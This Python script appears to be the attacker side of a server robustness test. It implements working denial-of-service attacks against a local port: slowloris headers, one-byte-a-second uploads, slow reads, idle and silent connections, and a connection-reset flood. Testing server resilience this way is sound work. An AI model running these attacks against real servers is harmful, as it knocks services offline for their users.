"""Who attacks: a process of its own with one loop, KIND PORT CONNECTIONS. Prints "ready" when all are connected (a
flood: when it has begun), and goes on until it is ended."""

import contextlib
import os
import resource
import select
import socket
import struct
import sys
import time

RESET = struct.pack("ii", 1, 0)
AT_A_TIME = 200  # connections opened before others have their turn


def begin():
    """From here on good clients have the right of way on the processor."""
    print("ready", flush=True)
    os.nice(19)


class Attack:
    """Opens connections, and opens those again that are closed; `begin` is sent at once, `drip` every second."""
    begin = drip = b""
    reads_bytes = 65536  # of what comes, as it comes
    receive_buffer = None

    def __init__(self, port, count):
        self.port, self.count = port, count
        self.epoll, self.open = select.epoll(), {}
        self.begun = 0

    def connect(self):
        s = socket.socket()
        if self.receive_buffer:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        s.settimeout(1)
        try:
            s.connect(("127.0.0.1", self.port))
            s.setblocking(False)
            s.send(self.begin) if self.begin else None
        except OSError:
            s.close()
            return
        self.open[s.fileno()] = s
        if self.reads_bytes:
            self.epoll.register(s, select.EPOLLIN)

    def close(self, fd):
        with contextlib.suppress(OSError):
            self.epoll.unregister(fd)
        self.open.pop(fd).close()

    def each_second(self):
        for fd, s in list(self.open.items()):
            try:
                if self.drip:
                    s.send(self.drip)
            except BlockingIOError:
                pass
            except OSError:
                self.close(fd)

    def came(self, fd):
        try:
            if not self.open[fd].recv(self.reads_bytes):
                self.close(fd)
        except BlockingIOError:
            pass
        except OSError:
            self.close(fd)

    def run(self):
        told, next_second = False, time.monotonic() + 1
        while True:
            for _ in range(min(AT_A_TIME, self.count - len(self.open))):
                self.connect()
            if len(self.open) >= self.count and not told:
                begin()
                told = True
            patience_s = min(0.2, next_second - time.monotonic()) if told else 0
            for fd, _ in self.epoll.poll(max(0, patience_s)):
                if fd in self.open:
                    self.came(fd)
            if time.monotonic() >= next_second:
                next_second += 1
                self.each_second()


class Heads(Attack):
    """Heads that never end (slowloris)."""
    begin, drip = b"GET / HTTP/1.1\r\nHost: a\r\n", b"X-a: b\r\n"


class Bodies(Attack):
    """Uploads, a byte a second."""
    begin, drip = b"POST /0 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", b"x"


class Readers(Attack):
    """Large responses, read at 100 bytes a second."""
    begin, receive_buffer, reads_bytes = b"GET /100m HTTP/1.1\r\nHost: a\r\n\r\n", 4096, 0

    def each_second(self):
        for fd, s in list(self.open.items()):
            try:
                if not s.recv(100):
                    self.close(fd)
            except BlockingIOError:
                pass
            except OSError:
                self.close(fd)


class Silent(Attack):
    """Connections on which nothing is ever said."""


class Idle(Attack):
    """Kept connections, after one request each."""
    begin = b"GET /0 HTTP/1.1\r\nHost: a\r\n\r\n"


class Flood(Attack):
    """As many new connections as one process can make, each reset at once."""

    def run(self):
        begin()
        while True:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            with contextlib.suppress(OSError):
                s.connect(("127.0.0.1", self.port))
            s.close()


KINDS = {"heads": Heads, "bodies": Bodies, "readers": Readers, "silent": Silent, "idle": Idle, "flood": Flood}

if __name__ == "__main__":
    hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
    KINDS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3])).run()
